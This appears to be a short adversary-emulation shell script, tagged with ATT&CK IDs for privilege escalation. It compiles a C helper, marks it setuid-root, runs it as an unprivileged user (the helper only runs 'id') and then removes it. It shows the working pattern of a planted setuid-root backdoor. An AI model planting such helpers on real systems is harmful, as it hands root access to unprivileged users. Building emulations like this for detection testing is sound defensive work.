#!/bin/sh
# T1068 / T1548.001: a planted setuid-root helper (the shape of a local exploit's payload)
# that an unprivileged user runs to become root.
set -e
d=$(mktemp -d)
chmod 755 "$d"
printf '#include <unistd.h>\nint main(void){ if (setuid(0) == 0) { char *a[] = {"id", 0}; execv("/usr/bin/id", a);} return 1; }\n' > "$d/h.c"
cc -o "$d/h" "$d/h.c"
chmod 4755 "$d/h"
setpriv --reuid=65534 --regid=65534 --clear-groups "$d/h" > /dev/null || true
rm -rf "$d"
